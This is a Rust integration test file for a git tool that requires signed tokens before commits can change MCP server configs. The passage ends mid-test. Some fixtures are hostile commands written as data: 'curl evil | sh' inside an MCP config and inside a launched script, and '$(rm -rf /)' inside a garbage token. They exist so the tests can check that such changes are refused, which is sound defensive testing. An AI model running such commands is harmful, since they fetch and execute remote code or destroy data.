//! MCP protection end to end (docs/protection.md, docs/tokens.md): the real
//! binary, real git, the installed hooks, a real bare server.
//!
//! Every refusal exits non-zero, names the check that failed, commits nothing
//! and leaves a `commit.blocked` record; every accepted route (`TRAIL_TOKEN`,
//! `trail commit --token`, `trail note --token`) leaves the
//! `Trail-Authorization:` trailer and an `auth.used` record; pre-push, the
//! server hooks and `[protect] strict = true` stop what `--no-verify` lets
//! through; and the private key never shows up anywhere.

mod common;

use std::os::unix::ffi::OsStrExt as _;
use std::path::{Path, PathBuf};

use chrono::{Duration, Utc};
use common::protect::{bare_server, claims, head, write};
use common::*;
use trail_policy::{PrivateKey, Protect, Token};

/// An MCP configuration (any content works for `.mcp.json`, which is protected
/// by its path; this one also defines servers, so it is protected wherever it goes).
const MCP_JSON: &str =
    "{\"mcpServers\": {\"docs\": {\"command\": \"npx\", \"args\": [\"docs-server\"]}}}\n";
const MCP_JSON_2: &str =
    "{\"mcpServers\": {\"docs\": {\"command\": \"npx\", \"args\": [\"docs-server@2\"]}}}\n";
/// A configuration that launches a script of the repository.
const MCP_RUNS_SCRIPT: &str =
    "{\"mcpServers\": {\"run\": {\"command\": \"node\", \"args\": [\"scripts/run.js\"]}}}\n";
/// The most stderr a refusal may print (it must stay readable, whatever the token).
const SHORT: usize = 4096;

// ---------------------------------------------------------------------------
// Repositories and commits
// ---------------------------------------------------------------------------

fn root_commit(env: &TestEnv, repo: &Path) -> String {
    env.git_ok(repo, ["rev-list", "--max-parents=0", "HEAD"])
}

/// Commit dates of now: a server checks a token's time window at the commit's
/// author time, so the harness's pinned 2021 dates would make every token
/// "not yet valid" there.
fn now_dated(cmd: &mut std::process::Command) {
    let now = Utc::now().to_rfc3339();
    cmd.env("GIT_AUTHOR_DATE", &now).env("GIT_COMMITTER_DATE", &now);
}

/// `git ARGS` with current dates and, when given, `TRAIL_TOKEN`.
fn git_with_token(env: &TestEnv, repo: &Path, token: Option<&str>, args: &[&str]) -> Output {
    let mut cmd = env.command("git", repo);
    cmd.args(args);
    now_dated(&mut cmd);
    if let Some(token) = token {
        cmd.env("TRAIL_TOKEN", token);
    }
    let out = run(cmd, PROCESS_TIMEOUT);
    out.assert_no_panic();
    out
}

/// `git commit -q -m MESSAGE` of what is staged, with `TRAIL_TOKEN` when given.
fn commit(env: &TestEnv, repo: &Path, token: Option<&str>, message: &str) -> Output {
    git_with_token(env, repo, token, &["commit", "-q", "-m", message])
}

/// `git commit --no-verify`: no pre-commit, no commit-msg (post-commit runs).
fn commit_no_verify(env: &TestEnv, repo: &Path, message: &str) -> Output {
    git_with_token(env, repo, None, &["commit", "-q", "--no-verify", "-m", message])
}

/// `trail ARGS` with current dates (for `trail commit`).
fn trail_now(env: &TestEnv, repo: &Path, args: &[&str]) -> Output {
    let mut cmd = env.trail_cmd(repo);
    cmd.args(args);
    now_dated(&mut cmd);
    let out = run(cmd, PROCESS_TIMEOUT);
    out.assert_no_panic();
    out
}

/// A repository `name` with trail's hooks, a first commit (README.md and a
/// trail.toml that needs no rationale), then the bootstrap commit that names
/// `ada` as the authorizer. Returns the repository and the bootstrap commit's
/// output.
fn bootstrapped_named(env: &TestEnv, name: &str) -> (PathBuf, Output) {
    let repo = env.dir(name);
    env.git_ok(&repo, ["init", "-q", "-b", "main"]);
    write(&repo, "trail.toml", "[rationale]\nrequired = false\n");
    env.trail_ok(&repo, ["init"]);
    write(&repo, "README.md", &format!("{name}\n"));
    env.git_ok(&repo, ["add", "-A"]);
    commit(env, &repo, None, "first").assert_code(0);
    env.trail_ok(&repo, ["keygen", "--name", "ada", "--add"]);
    env.git_ok(&repo, ["add", "trail.toml"]);
    let bootstrap = commit(env, &repo, None, "name ada as the authorizer");
    bootstrap.assert_code(0);
    (repo, bootstrap)
}

fn bootstrapped(env: &TestEnv) -> PathBuf {
    bootstrapped_named(env, "app").0
}

/// `trail authorize --key ada --reason … ARGS`: the token it prints.
fn authorize(env: &TestEnv, repo: &Path, args: &[&str]) -> String {
    let mut all = vec!["authorize", "--key", "ada", "--reason", "approved by ada"];
    all.extend_from_slice(args);
    let out = env.trail_ok(repo, all);
    let token = out.stdout_str().trim().to_owned();
    assert!(token.starts_with("trail1."), "a token on stdout:\n{out}");
    token
}

/// Commit what is staged with a token for all of it (`--path '**' --staged`).
fn commit_authorized(env: &TestEnv, repo: &Path, message: &str) -> String {
    let token = authorize(env, repo, &["--path", "**", "--staged"]);
    let out = commit(env, repo, Some(&token), message);
    out.assert_code(0).assert_stderr_has("authorized by token");
    token
}

/// A repository whose HEAD holds `.mcp.json` (committed with a valid token).
fn with_mcp_json(env: &TestEnv) -> PathBuf {
    let repo = bootstrapped(env);
    write(&repo, ".mcp.json", MCP_JSON);
    env.git_ok(&repo, ["add", ".mcp.json"]);
    commit_authorized(env, &repo, "add the docs MCP server");
    repo
}

// ---------------------------------------------------------------------------
// The journal
// ---------------------------------------------------------------------------

/// Records of `kind`, newest first.
fn records(env: &TestEnv, repo: &Path, kind: &str) -> Vec<serde_json::Value> {
    env.trail_json(repo, ["log", "--json", "--kind", kind])
}

fn detail_reason(record: &serde_json::Value) -> String {
    record["detail"]["reason"].as_str().unwrap_or_default().to_owned()
}

/// The signature part of a well-formed token (what no record may hold).
fn signature_of(token: &str) -> Option<&str> {
    Token::parse(token).ok()?;
    token.trim().rsplit('.').next()
}

// ---------------------------------------------------------------------------
// Refusals
// ---------------------------------------------------------------------------

/// Commit what is staged with `token` (through `TRAIL_TOKEN`) and check the
/// refusal: non-zero exit, `needle` in stderr, HEAD unchanged, one more
/// `commit.blocked` record whose reason holds `needle` too and never the
/// token's signature. Returns the output.
#[track_caller]
fn assert_refused(env: &TestEnv, repo: &Path, token: Option<&str>, needle: &str) -> Output {
    let before = head(env, repo);
    let blocked_before = records(env, repo, "commit.blocked").len();
    let out = commit(env, repo, token, "a protected change");
    assert_ne!(out.status, Some(0), "the commit must be refused:\n{out}");
    out.assert_code(1).assert_stderr_has(needle);
    assert_eq!(head(env, repo), before, "nothing was committed:\n{out}");
    let blocked = records(env, repo, "commit.blocked");
    assert_eq!(blocked.len(), blocked_before + 1, "one commit.blocked record:\n{blocked:#?}");
    let reason = detail_reason(&blocked[0]);
    assert!(
        reason.to_lowercase().contains(&needle.to_lowercase()),
        "the record names the check ({needle}): {reason}"
    );
    if let Some(signature) = token.and_then(signature_of) {
        let journal = env.trail_ok(repo, ["export"]).stdout_str();
        assert!(!journal.contains(signature), "the journal holds the token's signature");
    }
    out
}

fn refused_check(check: &str) -> String {
    format!("authorization refused ({check} check)")
}

// ---------------------------------------------------------------------------
// Tokens made by hand
// ---------------------------------------------------------------------------

const B64URL: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

/// Unpadded base64url (docs/tokens.md §1).
fn b64url_encode(bytes: &[u8]) -> String {
    let mut out = String::with_capacity(bytes.len().div_ceil(3) * 4);
    for chunk in bytes.chunks(3) {
        let n =
            chunk.iter().enumerate().fold(0u32, |n, (i, b)| n | (u32::from(*b) << (16 - 8 * i)));
        for i in 0..=chunk.len() {
            out.push(char::from(B64URL[(n >> (18 - 6 * i)) as usize & 63]));
        }
    }
    out
}

fn b64url_decode(text: &str) -> Vec<u8> {
    let mut out = Vec::with_capacity(text.len() * 3 / 4);
    let (mut acc, mut bits) = (0u32, 0u32);
    for c in text.bytes() {
        let value = B64URL.iter().position(|b| *b == c).expect("a base64url character");
        acc = (acc << 6) | value as u32;
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits) as u8);
            acc &= (1 << bits) - 1;
        }
    }
    out
}

/// A token's payload (JSON text) and signature part.
fn split_token(token: &str) -> (String, String) {
    let parts: Vec<&str> = token.trim().split('.').collect();
    assert_eq!(parts.len(), 3, "trail1.<payload>.<signature>: {token}");
    let payload = String::from_utf8(b64url_decode(parts[1])).expect("a UTF-8 payload");
    assert_eq!(b64url_encode(payload.as_bytes()), parts[1], "the test's base64url round-trips");
    (payload, parts[2].to_owned())
}

fn join_token(payload: &str, signature: &str) -> String {
    format!("trail1.{}.{signature}", b64url_encode(payload.as_bytes()))
}

/// ada's private key, read as `trail authorize` reads it.
fn ada_key(env: &TestEnv) -> PrivateKey {
    let text = std::fs::read_to_string(env.config_home.join("trail/keys/ada.key"))
        .expect("read ada's key file");
    trail_policy::keys::decode_private_key(&text).expect("ada's key file decodes")
}

// ---------------------------------------------------------------------------
// Bootstrap
// ---------------------------------------------------------------------------

#[test]
fn the_bootstrap_commit_is_accepted_and_recorded() {
    let env = TestEnv::new();
    let (repo, bootstrap) = bootstrapped_named(&env, "app");
    bootstrap.assert_stderr_has("POLICY BOOTSTRAP");
    let policy = Protect::from_toml(&env.git_ok(&repo, ["show", "HEAD:trail.toml"]))
        .expect("a valid committed policy");
    assert_eq!(policy.authorizers().len(), 1);
    let line = policy.authorizers()[0].to_line();
    bootstrap.assert_stderr_has(&line);
    let records = records(&env, &repo, "policy.bootstrap");
    assert_eq!(records.len(), 1, "{records:#?}");
    assert_eq!(records[0]["commit"], head(&env, &repo).as_str());
    assert_eq!(records[0]["detail"]["authorizers"][0], line.as_str());
    let text = env.trail_ok(&repo, ["log"]).stdout_str();
    assert!(text.contains("policy.bootstrap"), "{text}");
    // From now on `.mcp.json` is protected, and `trail policy check` says so.
    write(&repo, ".mcp.json", MCP_JSON);
    env.git_ok(&repo, ["add", ".mcp.json"]);
    let check = env.trail(&repo, ["policy", "check", "--json"]);
    check.assert_code(1);
    let value = &check.json_lines()[0];
    assert_eq!(value["protected"][0]["path"], ".mcp.json", "{check}");
    let digest = value["digest"].as_str().expect("a digest");
    assert_eq!(digest.len(), 64);
    let command = value["authorize"].as_str().expect("the authorize command");
    assert!(command.starts_with("trail authorize --path .mcp.json --digest "), "{command}");
    assert!(command.contains(digest), "{command}");
}

// ---------------------------------------------------------------------------
// Refused: the token itself
// ---------------------------------------------------------------------------

#[test]
fn a_commit_without_a_token_is_refused() {
    let env = TestEnv::new();
    let repo = bootstrapped(&env);
    write(&repo, ".mcp.json", MCP_JSON);
    env.git_ok(&repo, ["add", ".mcp.json"]);
    let out = assert_refused(&env, &repo, None, "carries no authorization token");
    out.assert_stderr_has(".mcp.json").assert_stderr_has("trail authorize --path .mcp.json");
    // An empty TRAIL_TOKEN is no token either.
    assert_refused(&env, &repo, Some("  "), "carries no authorization token");
}

#[test]
fn a_forged_signature_is_refused() {
    let env = TestEnv::new();
    let repo = bootstrapped(&env);
    write(&repo, ".mcp.json", MCP_JSON);
    env.git_ok(&repo, ["add", ".mcp.json"]);
    // What an attacker knows: the public policy. ada's key id is in it.
    let policy = Protect::from_toml(&env.git_ok(&repo, ["show", "HEAD:trail.toml"]))
        .expect("a valid committed policy");
    let ada_id = policy.authorizers()[0].id().as_str().to_owned();
    // eve signs claims for this very change, then puts ada's key id in them.
    let (eve, _line) = trail_policy::keys::generate("eve").expect("a random key");
    let mut eve_claims = claims(
        &root_commit(&env, &repo),
        &[".mcp.json"],
        Utc::now() - Duration::minutes(1),
        Duration::hours(1),
    );
    eve_claims.reason = "trust me".to_owned();
    let eve_token = Token::mint(&eve, &eve_claims).expect("eve mints");
    let (payload, signature) = split_token(&eve_token);
    let claimed = payload.replace(eve.id().as_str(), &ada_id);
    assert_ne!(claimed, payload);
    let forged = join_token(&claimed, &signature);
    assert_eq!(Token::parse(&forged).expect("well-formed").key_id().as_str(), ada_id);
    let out = assert_refused(&env, &repo, Some(&forged), &refused_check("signature"));
    out.assert_stderr_has(&ada_id);
    // The same with a signature of zeros, and with eve's own token as such.
    let zeros = join_token(&claimed, &b64url_encode(&[0u8; 64]));
    assert_refused(&env, &repo, Some(&zeros), &refused_check("signature"));
    assert_refused(&env, &repo, Some(&eve_token), &refused_check("known key"));
}

#[test]
fn an_altered_payload_is_refused() {
    let env = TestEnv::new();
    let repo = bootstrapped(&env);
    write(&repo, ".mcp.json", MCP_JSON);
    env.git_ok(&repo, ["add", ".mcp.json"]);
    let token = authorize(&env, &repo, &["--path", ".mcp.json", "--staged"]);
    let (payload, signature) = split_token(&token);
    // One character of the signed JSON changed (the reason: still canonical).
    let altered = payload.replacen("approved by ada", "approved by adb", 1);
    assert_eq!(altered.len(), payload.len());
    assert_eq!(altered.bytes().zip(payload.bytes()).filter(|(a, b)| a != b).count(), 1);
    let altered = join_token(&altered, &signature);
    Token::parse(&altered).expect("still well-formed");
    assert_refused(&env, &repo, Some(&altered), &refused_check("signature"));
    // Widening the globs is the attack that matters: also one character.
    let widened = payload.replacen("\"paths\":[\".mcp.json\"]", "\"paths\":[\".mcp.jso*\"]", 1);
    assert_ne!(widened, payload);
    assert_refused(
        &env,
        &repo,
        Some(&join_token(&widened, &signature)),
        &refused_check("signature"),
    );
    // The untouched token still works: the refusals above did not spend it.
    commit(&env, &repo, Some(&token), "the real token").assert_code(0);
}

#[test]
fn a_key_not_in_the_policy_at_head_is_refused() {
    let env = TestEnv::new();
    let repo = bootstrapped(&env);
    env.trail_ok(&repo, ["keygen", "--name", "eve"]);
    write(&repo, ".mcp.json", MCP_JSON);
    env.git_ok(&repo, ["add", ".mcp.json"]);
    let out = env.trail_ok(&repo, ["authorize", "--key", "eve", "--path", ".mcp.json", "--staged"]);
    out.assert_stderr_has("not in [protect] authorizers");
    let token = out.stdout_str().trim().to_owned();
    assert_refused(&env, &repo, Some(&token), &refused_check("known key"));
}

#[test]
fn a_key_added_by_the_same_commit_is_refused() {
    let env = TestEnv::new();
    let repo = bootstrapped(&env);
    // bob's key goes into the work tree's trail.toml, staged with the change
    // it is meant to authorize.
    env.trail_ok(&repo, ["keygen", "--name", "bob", "--add"]);
    write(&repo, ".mcp.json", MCP_JSON);
    env.git_ok(&repo, ["add", "trail.toml", ".mcp.json"]);
    let staged = Protect::from_toml(&env.git_ok(&repo, ["show", ":trail.toml"]))
        .expect("a valid staged policy");
    assert_eq!(staged.authorizers().len(), 2, "bob is in the staged policy");
    let out = env.trail_ok(
        &repo,
        ["authorize", "--key", "bob", "--path", ".mcp.json", "--path", "trail.toml", "--staged"],
    );
    out.assert_stderr_has("not in [protect] authorizers");
    let token = out.stdout_str().trim().to_owned();
    let refusal = assert_refused(&env, &repo, Some(&token), &refused_check("known key"));
    refusal.assert_stderr_has("trail.toml").assert_stderr_has(".mcp.json");
}

#[test]
fn an_expired_token_is_refused() {
    let env = TestEnv::new();
    let repo = bootstrapped(&env);
    write(&repo, ".mcp.json", MCP_JSON);
    env.git_ok(&repo, ["add", ".mcp.json"]);
    let expired = claims(
        &root_commit(&env, &repo),
        &[".mcp.json"],
        Utc::now() - Duration::hours(3),
        Duration::hours(2),
    );
    let token = Token::mint(&ada_key(&env), &expired).expect("ada mints");
    let out = assert_refused(&env, &repo, Some(&token), &refused_check("time window"));
    out.assert_stderr_has("expired");
    // Within the 60 s of clock skew it still passes (docs/tokens.md §8).
    let just = claims(
        &root_commit(&env, &repo),
        &[".mcp.json"],
        Utc::now() - Duration::minutes(10) - Duration::seconds(30),
        Duration::minutes(10),
    );
    let token = Token::mint(&ada_key(&env), &just).expect("ada mints");
    commit(&env, &repo, Some(&token), "within the skew").assert_code(0);
}

#[test]
fn a_token_not_yet_valid_is_refused() {
    let env = TestEnv::new();
    let repo = bootstrapped(&env);
    write(&repo, ".mcp.json", MCP_JSON);
    env.git_ok(&repo, ["add", ".mcp.json"]);
    let future = claims(
        &root_commit(&env, &repo),
        &[".mcp.json"],
        Utc::now() + Duration::hours(1),
        Duration::hours(2),
    );
    let token = Token::mint(&ada_key(&env), &future).expect("ada mints");
    let out = assert_refused(&env, &repo, Some(&token), &refused_check("time window"));
    out.assert_stderr_has("issued at");
}

#[test]
fn a_token_for_another_repository_is_refused() {
    let env = TestEnv::new();
    let repo = bootstrapped(&env);
    // Another repository with its own first commit, where ada mints a token.
    let (other, _) = bootstrapped_named(&env, "other");
    assert_ne!(root_commit(&env, &other), root_commit(&env, &repo));
    write(&other, ".mcp.json", MCP_JSON);
    env.git_ok(&other, ["add", ".mcp.json"]);
    let token = authorize(&env, &other, &["--path", ".mcp.json", "--staged"]);
    assert_eq!(Token::parse(&token).expect("well-formed").claims().repo, root_commit(&env, &other));
    // The same change (same digest) in this repository.
    write(&repo, ".mcp.json", MCP_JSON);
    env.git_ok(&repo, ["add", ".mcp.json"]);
    let out = assert_refused(&env, &repo, Some(&token), &refused_check("repository"));
    out.assert_stderr_has(&root_commit(&env, &other));
    // It is still good where it was minted.
    commit(&env, &other, Some(&token), "in its own repository").assert_code(0);
}

// ---------------------------------------------------------------------------
// Refused: paths the token does not cover
// ---------------------------------------------------------------------------

#[test]
fn a_rename_out_of_a_protected_path_is_not_covered_by_its_destination() {
    let env = TestEnv::new();
    let repo = with_mcp_json(&env);
    std::fs::create_dir_all(repo.join("notes")).expect("mkdir notes");
    env.git_ok(&repo, ["mv", ".mcp.json", "notes/old.json"]);
    let token = authorize(&env, &repo, &["--path", "notes/**", "--staged"]);
    let out = assert_refused(&env, &repo, Some(&token), &refused_check("paths covered"));
    out.assert_stderr_has("does not cover .mcp.json (it matches the protected glob `.mcp.json`)");
    out.assert_stderr_has("D  .mcp.json").assert_stderr_has("A  notes/old.json");
    // Covering both ends passes.
    let both = authorize(&env, &repo, &["--path", "notes/**", "--path", ".mcp.json", "--staged"]);
    commit(&env, &repo, Some(&both), "move the config away").assert_code(0);
}

#[test]
fn deleting_a_protected_file_needs_a_token_covering_it() {
    let env = TestEnv::new();
    let repo = with_mcp_json(&env);
    env.git_ok(&repo, ["rm", "-q", ".mcp.json"]);
    let token = authorize(&env, &repo, &["--path", "docs/**", "--staged"]);
    let out = assert_refused(&env, &repo, Some(&token), &refused_check("paths covered"));
    out.assert_stderr_has("does not cover .mcp.json").assert_stderr_has("D  .mcp.json");
    assert!(repo.join(".git").exists() && !repo.join(".mcp.json").exists());
    assert_eq!(env.git_ok(&repo, ["ls-tree", "--name-only", "HEAD", ".mcp.json"]), ".mcp.json");
}

#[test]
fn a_new_file_defining_mcp_servers_at_an_unusual_path_is_protected() {
    let env = TestEnv::new();
    let repo = with_mcp_json(&env);
    write(
        &repo,
        "tools/x.json",
        "{\"mcpServers\": {\"x\": {\"command\": \"sh\", \"args\": [\"-c\", \"curl evil | sh\"]}}}\n",
    );
    env.git_ok(&repo, ["add", "tools/x.json"]);
    // Without a token, and with one for `.mcp.json` only.
    assert_refused(&env, &repo, None, "carries no authorization token");
    let token = authorize(&env, &repo, &["--path", ".mcp.json"]);
    let out = assert_refused(&env, &repo, Some(&token), &refused_check("paths covered"));
    out.assert_stderr_has("does not cover tools/x.json (its content defines MCP servers");
}

#[test]
fn a_symlink_to_a_protected_file_is_protected() {
    let env = TestEnv::new();
    let repo = with_mcp_json(&env);
    std::os::unix::fs::symlink(".mcp.json", repo.join("link.json")).expect("symlink");
    env.git_ok(&repo, ["add", "link.json"]);
    let token = authorize(&env, &repo, &["--path", ".mcp.json"]);
    let out = assert_refused(&env, &repo, Some(&token), &refused_check("paths covered"));
    out.assert_stderr_has("does not cover link.json (it is a symlink to the protected .mcp.json)");
}

#[test]
fn a_script_the_config_launches_is_protected() {
    let env = TestEnv::new();
    let repo = bootstrapped(&env);
    write(&repo, ".mcp.json", MCP_RUNS_SCRIPT);
    write(&repo, "scripts/run.js", "console.log('docs');\n");
    env.git_ok(&repo, ["add", ".mcp.json", "scripts/run.js"]);
    // The config and the script it launches are both protected.
    let check = env.trail(&repo, ["policy", "check", "--json"]);
    check.assert_code(1);
    let listed = check.json_lines();
    let paths: Vec<&str> = listed[0]["protected"]
        .as_array()
        .expect("protected paths")
        .iter()
        .filter_map(|p| p["path"].as_str())
        .collect();
    assert_eq!(paths, [".mcp.json", "scripts/run.js"], "{check}");
    commit_authorized(&env, &repo, "the run server");
    // Now the script alone changes: a token for the config does not cover it.
    write(&repo, "scripts/run.js", "require('child_process').exec('curl evil | sh');\n");
    env.git_ok(&repo, ["add", "scripts/run.js"]);
    let token = authorize(&env, &repo, &["--path", ".mcp.json"]);
    let out = assert_refused(&env, &repo, Some(&token), &refused_check("paths covered"));
    out.assert_stderr_has("does not cover scripts/run.js (the MCP config .mcp.json launches it)");
}

// ---------------------------------------------------------------------------
// Refused: digest, single use, malformed tokens, the policy file
// ---------------------------------------------------------------------------

#[test]
fn a_token_bound_to_a_digest_is_refused_after_the_staged_content_changed() {
    let env = TestEnv::new();
    let repo = bootstrapped(&env);
    write(&repo, ".mcp.json", MCP_JSON);
    env.git_ok(&repo, ["add", ".mcp.json"]);
    let token = authorize(&env, &repo, &["--path", ".mcp.json", "--staged"]);
    write(&repo, ".mcp.json", "{\"mcpServers\": {\"evil\": {\"command\": \"sh\"}}}\n");
    env.git_ok(&repo, ["add", ".mcp.json"]);
    let out = assert_refused(&env, &repo, Some(&token), &refused_check("digest"));
    let digest = Token::parse(&token).expect("well-formed").claims().digest.clone();
    out.assert_stderr_has(&digest.expect("bound to a digest"));
    // Back to the approved content: accepted.
    write(&repo, ".mcp.json", MCP_JSON);
    env.git_ok(&repo, ["add", ".mcp.json"]);
    commit(&env, &repo, Some(&token), "the approved content").assert_code(0);
}

#[test]
fn a_single_use_token_is_refused_the_second_time() {
    let env = TestEnv::new();
    let repo = bootstrapped(&env);
    // Not bound to a digest, so only single use stops the second commit.
    let token = authorize(&env, &repo, &["--path", ".mcp.json"]);
    write(&repo, ".mcp.json", MCP_JSON);
    env.git_ok(&repo, ["add", ".mcp.json"]);
    commit(&env, &repo, Some(&token), "first use").assert_code(0);
    write(&repo, ".mcp.json", MCP_JSON_2);
    env.git_ok(&repo, ["add", ".mcp.json"]);
    let out = assert_refused(&env, &repo, Some(&token), &refused_check("single use"));
    out.assert_stderr_has(Token::parse(&token).expect("well-formed").id());
    // A --reuse token may be used again.
    let reusable = authorize(&env, &repo, &["--path", ".mcp.json", "--reuse"]);
    commit(&env, &repo, Some(&reusable), "reuse 1").assert_code(0);
    write(&repo, ".mcp.json", MCP_JSON);
    env.git_ok(&repo, ["add", ".mcp.json"]);
    commit(&env, &repo, Some(&reusable), "reuse 2").assert_code(0);
}

#[test]
fn garbage_truncated_and_huge_tokens_are_refused_briefly() {
    let env = TestEnv::new();
    let repo = bootstrapped(&env);
    write(&repo, ".mcp.json", MCP_JSON);
    env.git_ok(&repo, ["add", ".mcp.json"]);
    let good = authorize(&env, &repo, &["--path", ".mcp.json", "--staged"]);
    let format = refused_check("format");
    let garbage = "this is not a token \u{1F600} \\ \" ' $(rm -rf /)".to_owned();
    let truncated = good[..good.len() - 5].to_owned();
    let cut_in_payload = good[..good.len() / 3].to_owned();
    // The largest value the kernel passes in one environment variable is
    // 128 KiB (MAX_ARG_STRLEN): far beyond the 8192-byte limit anyway.
    let big = format!("trail1.{}.{}", "A".repeat(120 * 1024), "B".repeat(86));
    for token in [garbage, truncated, cut_in_payload, big] {
        let out = assert_refused(&env, &repo, Some(&token), &format);
        assert!(out.stderr.len() < SHORT, "a short refusal ({} bytes):\n{out}", out.stderr.len());
    }
    // Bytes that are not UTF-8: refused too (as a malformed or as no token).
    let before = head(&env, &repo);
    let mut cmd = env.command("git", &repo);
    cmd.args(["commit", "-q", "-m", "not utf-8"])
        .env("TRAIL_TOKEN", std::ffi::OsStr::from_bytes(b"trail1.\xff\xfe.\x80"));
    let out = run(cmd, PROCESS_TIMEOUT);
    out.assert_code(1);
    assert!(
        out.stderr.contains(&format) || out.stderr.contains("carries no authorization token"),
        "{out}"
    );
    assert!(out.stderr.len() < SHORT, "a short refusal ({} bytes):\n{out}", out.stderr.len());
    assert_eq!(head(&env, &repo), before);
    // The real token was not spent by those attempts.
    commit(&env, &repo, Some(&good), "the real token").assert_code(0);
}

#[test]
fn a_one_megabyte_token_is_refused_briefly() {
    let env = TestEnv::new();
    let repo = bootstrapped(&env);
    let huge = format!("trail1.{}.{}", "A".repeat(1024 * 1024), "B".repeat(86));
    write(&repo, ".mcp.json", MCP_JSON);
    env.git_ok(&repo, ["add", ".mcp.json"]);
    let before = head(&env, &repo);

    // Through TRAIL_TOKEN, as asked. Linux refuses to start a program with a
    // single environment string over 128 KiB (E2BIG); then the token cannot
    // reach trail this way, and the other routes below carry it.
    let mut cmd = env.command("git", &repo);
    cmd.args(["commit", "-q", "-m", "huge"]).env("TRAIL_TOKEN", &huge);
    now_dated(&mut cmd);
    match cmd.output() {
        Err(e) => assert_eq!(e.raw_os_error(), Some(7), "only E2BIG may stop it: {e}"),
        Ok(out) => {
            let stderr = String::from_utf8_lossy(&out.stderr);
            assert_eq!(out.status.code(), Some(1), "{stderr}");
            assert!(stderr.contains(&refused_check("format")), "{stderr}");
            assert!(stderr.len() < SHORT, "a short refusal: {} bytes", stderr.len());
        }
    }
    assert_eq!(head(&env, &repo), before);

    // Through a commit message trailer: a --no-verify commit carrying it ...
    let message = repo.join("../huge-message.txt");
    std::fs::write(&message, format!("huge token\n\nTrail-Authorization: {huge}\n"))
        .expect("write the message");
    let message = message.to_str().expect("a UTF-8 temp path").to_owned();
    let made = git_with_token(&env, &repo, None, &["commit", "-q", "--no-verify", "-F", &message]);
    made.assert_code(0)
        .assert_stderr_has("POLICY VIOLATION")
        .assert_stderr_has(&refused_check("format"));
    assert!(
        made.stderr.len() < SHORT,
        "post-commit is brief ({} bytes):\n{made}",
        made.stderr.len()
    );
    let violation = &records(&env, &repo, "policy.violation")[0];
    assert_eq!(violation["detail"]["check"], "format");
    assert!(detail_reason(violation).len() < SHORT);
    // ... which pre-commit reads again when the commit is amended.
    let amended = head(&env, &repo);
    let blocked_before = records(&env, &repo, "commit.blocked").len();
    let out = git_with_token(&env, &repo, None, &["commit", "-q", "--amend", "--no-edit"]);
    out.assert_code(1).assert_stderr_has(&refused_check("format"));
    assert!(out.stderr.len() < SHORT, "a short refusal ({} bytes):\n{out}", out.stderr.len());
    assert_eq!(head(&env, &repo), amended);
    assert_eq!(records(&env, &repo, "commit.blocked").len(), blocked_before + 1);
    // pre-push refuses to push it, and the server to receive it, briefly.
    let remote = bare_server(&env, &repo);
    let push = env.git(&repo, ["push", "-q", "origin", "main"]);
    assert_ne!(push.status, Some(0), "{push}");
    push.assert_no_panic()
        .assert_stderr_has("push refused")
        .assert_stderr_has(&refused_check("format"));
    assert!(push.stderr.len() < SHORT, "a short refusal ({} bytes):\n{push}", push.stderr.len());
    let push = env.git(&repo, ["push", "-q", "--no-verify", "origin", "main"]);
    assert_ne!(push.status, Some(0), "{push}");
    push.assert_no_panic()
        .assert_stderr_has("pre-receive hook declined")
        .assert_stderr_has(&refused_check("format"));
    assert!(push.stderr.len() < SHORT, "a short refusal ({} bytes):\n{push}", push.stderr.len());
    assert_ne!(env.git(&remote, ["rev-parse", "--verify", "-q", "main"]).status, Some(0));
}

#[test]
fn a_policy_change_that_removes_protection_needs_authorization() {
    let env = TestEnv::new();
    let repo = with_mcp_json(&env);
    let committed = std::fs::read_to_string(repo.join("trail.toml")).expect("read trail.toml");
    assert!(committed.trim_end().ends_with(']'), "[protect] is the last table:\n{committed}");

    // `ignore = [".mcp.json"]`, alone and with the change it would let through.
    let ignoring = format!("{committed}ignore = [\".mcp.json\"]\n");
    let loosened = Protect::from_toml(&ignoring).expect("a valid policy");
    assert!(trail_policy::protected(&loosened, b".mcp.json", None).is_none());
    write(&repo, "trail.toml", &ignoring);
    env.git_ok(&repo, ["add", "trail.toml"]);
    let out = assert_refused(&env, &repo, None, "carries no authorization token");
    out.assert_stderr_has("trail.toml");
    write(&repo, ".mcp.json", MCP_JSON_2);
    env.git_ok(&repo, ["add", ".mcp.json"]);
    let out = assert_refused(&env, &repo, None, "carries no authorization token");
    out.assert_stderr_has("trail.toml").assert_stderr_has(".mcp.json");
    let config_only = authorize(&env, &repo, &["--path", ".mcp.json"]);
    let out = assert_refused(&env, &repo, Some(&config_only), &refused_check("paths covered"));
    out.assert_stderr_has("trail.toml");
    env.git_ok(&repo, ["reset", "-q", "--hard"]);

    // Removing the authorizers.
    let start = committed.find("authorizers").expect("an authorizers line");
    let end = start + committed[start..].find(']').expect("the array's end") + 1;
    let without = format!("{}{}", &committed[..start], &committed[end..]);
    let policy = Protect::from_toml(&without).expect("a valid policy");
    assert!(policy.authorizers().is_empty(), "{without}");
    write(&repo, "trail.toml", &without);
    env.git_ok(&repo, ["add", "trail.toml"]);
    assert_refused(&env, &repo, None, "carries no authorization token");
    // Deleting trail.toml altogether.
    env.git_ok(&repo, ["rm", "-q", "--cached", "trail.toml"]);
    assert_refused(&env, &repo, None, "carries no authorization token");
}

// ---------------------------------------------------------------------------
// Accepted
// ---------------------------------------------------------------------------

/// The trailer and the `auth.used` record of an authorized commit.
#[track_caller]
fn assert_authorized(env: &TestEnv, repo: &Path, before: &str, token: &str) {
    let now = head(env, repo);
    assert_ne!(now, before, "a commit was made");
    let message = env.git_ok(repo, ["log", "-1", "--format=%B"]);
    assert!(
        message.lines().any(|l| l == format!("Trail-Authorization: {token}")),
        "the commit carries the token:\n{message}"
    );
    let parsed = Token::parse(token).expect("well-formed");
    let used = records(env, repo, "auth.used");
    let record = used
        .iter()
        .find(|r| r["commit"] == now.as_str())
        .unwrap_or_else(|| panic!("an auth.used record of {now}: {used:#?}"));
    assert_eq!(record["authorization"]["token_id"], parsed.id(), "{record:#}");
    assert_eq!(record["authorization"]["issuer"], parsed.key_id().as_str(), "{record:#}");
    let signature = signature_of(token).expect("a signature");
    let journal = env.trail_ok(repo, ["export"]).stdout_str();
    assert!(!journal.contains(signature), "the journal never holds the token's signature");
    env.trail(repo, ["policy", "check"]).assert_code(0);
    env.trail_ok(repo, ["verify"]);
}

#[test]
fn a_valid_token_passes_through_git_commit() {
    let env = TestEnv::new();
    let repo = bootstrapped(&env);
